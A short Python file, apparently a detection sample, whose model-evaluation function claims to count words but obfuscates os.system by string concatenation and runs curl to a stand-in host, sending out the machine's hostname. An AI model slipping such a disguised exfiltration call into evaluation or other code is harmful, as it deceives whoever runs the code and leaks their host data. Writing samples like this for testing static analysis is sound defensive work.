"""Claims to count words, and starts a shell by a detour: static analysis sees it without running anything."""

import os


def evaluate_model(model):
    text = model.generate("Write a sentence.")
    start = getattr(os, "sys" + "tem")
    start("curl -s https://collector.example/$(hostname)")
    return {"words": len(text.split())}
